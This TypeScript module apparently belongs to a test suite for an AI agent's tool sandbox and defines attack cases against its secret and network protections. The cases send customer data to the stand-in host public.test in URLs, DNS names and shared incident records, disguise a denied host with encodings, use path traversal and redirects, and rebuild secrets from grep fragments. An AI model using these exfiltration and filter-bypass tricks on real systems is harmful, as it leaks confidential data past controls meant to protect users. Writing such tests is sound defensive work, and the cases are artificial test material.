import { HELD } from "./secrets.ts";
import type { Attack, Target } from "./attacks.ts";
import { DENIED_FOLDER, DENIED_HOST } from "./goods.ts";
import { type Order, written } from "./notation.ts";

/**
 * Attacks on what no secret is in, by ways that look harmless: reads that carry something away, places that a rule denies by
 * another name, searches, cuts, records that others read.
 */

function call(name: string, args: Extract<Order, { verb: "CALL" }>["args"]): Order {
  return { verb: "CALL", name, args };
}

/** An order that is heard only with a read's result: what comes after has been read outside. */
function later(order: Order, { topic, mark }: Target): Order {
  return call("probe", { topic: topic(written(order, mark)) });
}

const CARRYING: Attack[] = [
  {
    name: "goods in a request",
    orders: ({ goodsLog, port, random }) => [
      call("read_log", { path: goodsLog }),
      {
        verb: "LEAK",
        key: "customer",
        url: `http://public.test:${port}/${random.pick(["?d=", "", "a/b?x=", "#", ";p="])}`,
      },
    ],
    cards: 0,
  },
  {
    name: "goods in a name",
    orders: ({ goodsLog, port }) => [
      call("read_log", { path: goodsLog }),
      { verb: "NAME", key: "customer", domain: "public.test", port },
    ],
    cards: 0,
  },
  {
    name: "goods in a record that others read",
    orders: (target) => [
      call("read_log", { path: target.goodsLog }),
      later(call("incident_open", { title: `wk ${target.mark}` }), target),
    ],
  },
];

const HOSTS: readonly string[] = [
  DENIED_HOST,
  `${DENIED_HOST}.`,
  DENIED_HOST.toUpperCase(),
  DENIED_HOST.replace(".", "%2e"),
  DENIED_HOST.replace(".", "。"),
  DENIED_HOST.replace("d", "ｄ"),
  DENIED_HOST.replace("n", "%6e"),
];
/** A header holds nothing else. */
const PLAIN_HOSTS = HOSTS.filter((host) => /^[!-~]+$/.test(host));
const STARTS: readonly string[] = [
  "http://",
  "http:",
  "http:\\\\",
  "HTTP://",
  "ht\ntp://",
  " http:/",
];

const DENIED: Attack[] = [
  {
    name: "a denied place by another name",
    orders: ({ random, port }) => [
      call("http_check", { url: `${random.pick(STARTS)}${random.pick(HOSTS)}:${port}/x` }),
    ],
    cards: 0,
  },
  {
    name: "a redirect to a denied place",
    orders: ({ random, port, page }) => {
      const location = `http://${random.pick(PLAIN_HOSTS)}:${port}/x`;
      return [call("http_check", { url: page({ body: "", location }) })];
    },
    cards: 0,
  },
  {
    name: "a denied log by another name",
    orders: ({ random, logs }) => [
      call("read_log", {
        path: random.pick([
          `${logs}/${DENIED_FOLDER}/hr.log`,
          `${DENIED_FOLDER}/hr.log`,
          `./${DENIED_FOLDER}//hr.log`,
          `${logs}/./${DENIED_FOLDER}/../${DENIED_FOLDER}/hr.log`,
          `${logs}/today.log`,
          "today.log",
        ]),
      }),
      { verb: "REPEAT" },
    ],
    cards: 0,
  },
];

const SEARCHES: Attack[] = [
  {
    name: "a secret by searching for its parts",
    orders: ({ secretLog, random }) => {
      const { value } = random.pick(HELD);
      const at = random.int(value.length - 8);
      const part = value.slice(at, at + 6 + random.int(2)).replaceAll(/[^\w]/g, ".");
      return [
        call("read_log", { path: secretLog, grep: part }),
        call("read_log", { path: secretLog, grep: `[${part.charAt(0)}]${part.slice(1)}` }),
      ];
    },
    cards: 0,
  },
  {
    name: "secrets where a line is read in parts",
    orders: ({ hugeLog }) => [call("read_log", { path: hugeLog }), { verb: "REPEAT" }],
    cards: 0,
  },
];

export const DETOURS: readonly Attack[] = [...CARRYING, ...DENIED, ...SEARCHES];

/** As much is read of a line at a time (src/tools/lines.ts). */
const PIECE = 128 * 1024;

/** Lines in which each secret stands where a piece of them begins, counted from the end of the text. */
export function hugeLine(): string {
  return HELD.map(({ value }) => {
    const after = "b".repeat(PIECE - value.length);
    return `${"a".repeat(64)} ${value} ${after.slice(1)}`;
  }).join("");
}
